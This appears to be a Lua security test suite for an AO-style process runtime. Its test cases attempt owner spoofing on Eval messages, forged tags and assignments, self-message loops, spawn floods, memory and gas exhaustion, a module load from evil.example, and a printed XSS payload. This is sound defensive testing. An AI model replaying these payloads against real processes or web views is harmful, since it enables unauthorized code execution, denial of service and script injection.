--- a process without rights does not evaluate in another
-- expect message: Action=Eval
ao.send({ Target = "{victim}", Action = "Eval", Data = "Secret = 'owned'" })
--- nor by claiming to be its owner
-- expect message: Action=Eval
ao.send({ Target = "{victim}", Action = "Eval", Data = "Secret = 'owned'", Owner = "owner", From = "owner", ["From-Process"] = "{victim}" })
--- nor by tags twice
-- expect message: Action=Eval
ao.send({ Target = "{victim}", Data = "Secret = 'owned'", Tags = { { name = "Action", value = "Eval" }, { name = "From-Process", value = "{victim}" }, { name = "From-Process", value = "owner" }, { name = "Owner", value = "owner" } } })
--- nor by what was forwarded
-- expect message: Action=Eval
ao.send({ Target = "{victim}", Action = "Eval", Data = "Secret = 'owned'", ["Forwarded-By"] = "{victim}", ["X-Origin"] = "owner", ["Pushed-For"] = "owner" })
--- an answer that nobody asked for wakes no waiting handler
-- expect message: X-Reference=1
ao.send({ Target = "{victim}", Action = "Answer", Data = "owned", ["X-Reference"] = "1" })
--- a message to itself, for ever
-- expect output: set
-- expect paused: 1
-- expect resumed: 1
Handlers.add("Loop", "Loop", function(msg) ao.send({ Target = ao.id, Action = "Loop" }) end)
ao.send({ Target = ao.id, Action = "Loop" }) print("set")
--- two messages for one, for ever
-- expect output: set
-- expect paused: 101
-- expect resumed: 201
Handlers.add("Double", "Double", function(msg) for _ = 1, 2 do ao.send({ Target = ao.id, Action = "Double" }) end end)
ao.send({ Target = ao.id, Action = "Double" }) print("set")
--- processes that spawn processes, for ever
-- expect output: set
-- expect spawns: 3
-- expect made: 50
-- expect paused: 206
-- expect resumed: 406
-- expect left: 203
Handlers.add("Spawned", "Spawned", function(msg) for _ = 1, 3 do Spawn({ Data = "x" }) end end)
for _ = 1, 3 do Spawn({ Data = "x" }) end print("set")
--- a thousand processes at once
-- expect spawns: 1000
-- expect made: 50
-- expect paused: 1900
-- expect resumed: 1800
-- expect left: 900
for _ = 1, 1000 do Spawn({ ["On-Boot"] = "Data", Data = "for _ = 1, 1000 do end" }) end
--- a process with more memory than there is has what there is
-- expect spawns: 1
-- expect made: 1
-- expect boot: not enough memory
Spawn({ ["Memory-Limit"] = "999999-gb", ["On-Boot"] = "Data", Data = [[local s = "x" while true do s = s .. s end]] })
--- a process with more gas than there is has what there is
-- expect spawns: 1
-- expect made: 1
-- expect boot: out of gas: the evaluation used more than 100000000
Spawn({ ["Compute-Limit"] = "999999999999999999", ["On-Boot"] = "Data", Data = "while true do end" })
--- a process whose clock ticks a billion times a second
-- expect spawns: 1
-- expect refused: Cron-Interval "1-millisecond" is not valid: it is 1 ms, and the shortest time is one second
Spawn({ ["Cron-Interval"] = "1-millisecond", ["Cron-Tag-Action"] = "Tick" })
--- a process of a module that is none
-- expect spawns: 1
-- expect refused: module
Spawn("https://evil.example/module.wasm", { Data = "x" })
--- an assignment of messages that are not its own
-- expect assignments: 1
Assign({ Processes = { "{victim}", "{victim}", "nobody" }, Message = "{victim}" })
--- an assignment of nothing to everybody
-- expect assignments: 1
local all = {} for i = 1, 10000 do all[i] = "{victim}" end Assign({ Processes = all, Message = ("A"):rep(43) })
--- the same message assigned by its tag
-- expect message: Assignments=
ao.send({ Target = "{victim}", Action = "Eval", Data = "Secret = 'owned'", Assignments = { "{victim}" } })
--- its own id and owner, rewritten, deceive nobody
-- after anything
-- expect message: Action=Eval
ao.id = "{victim}" Owner = "owner" ao.env.Process.Id = "{victim}" ao.env.Process.Owner = "owner"
ao.send({ Target = "{victim}", Action = "Eval", Data = "Secret = 'owned'" })
--- a text for whoever shows it as markup
-- expect output: <script>document.title = 'owned'</script><img src=x onerror="document.title='owned'">
print("<script>document.title = 'owned'</script><img src=x onerror=\"document.title='owned'\">")
--- what its owner evaluated elsewhere, assigned to another
-- expect assignments: 1
Assign({ Processes = { "{victim}" }, Message = "{evaluation}" })
--- the same, without what says whose it is
-- expect assignments: 1
ao.assign({ Processes = { "{victim}" }, Message = "{evaluation}", Exclude = { "Owner", "From", "Target", "Tags" } })
--- the same, by a message with its id in the tags
-- expect message: Type=Assignment
ao.send({ Target = "{victim}", Type = "Assignment", Assign = "{evaluation}", Message = "{evaluation}", Process = "{victim}", Nonce = "0", Epoch = "0" })
--- questions to another, for ever
-- expect output: set
-- expect paused: 1
-- expect resumed: 1
-- expect left: 1
Handlers.prepend("Again", function(msg) return msg.Data == "safe" end, function() ao.send({ Target = "{victim}", Action = "Ask" }) end)
ao.send({ Target = "{victim}", Action = "Ask" }) print("set")
--- a spawned process that does what its maker may not
-- expect spawns: 1
-- expect made: 1
Spawn({ ["On-Boot"] = "Data", Data = [[ao.send({ Target = "{victim}", Action = "Eval", Data = "Secret = 'owned'", Owner = "owner", ["From-Process"] = "{victim}" })]] })
